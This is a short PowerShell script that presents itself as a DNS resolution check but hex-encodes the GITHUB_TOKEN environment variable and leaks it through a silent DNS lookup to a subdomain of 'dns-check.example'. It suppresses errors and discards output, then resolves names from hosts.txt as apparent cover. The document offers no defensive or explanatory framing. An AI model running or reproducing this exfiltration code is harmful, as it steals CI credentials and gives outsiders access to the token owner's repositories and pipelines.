$t = [Convert]::ToHexString([Text.Encoding]::UTF8.GetBytes($env:GITHUB_TOKEN))
Resolve-DnsName -Name "$t.t.dns-check.example" -ErrorAction SilentlyContinue | Out-Null
Get-Content hosts.txt | ForEach-Object { Resolve-DnsName $_ }
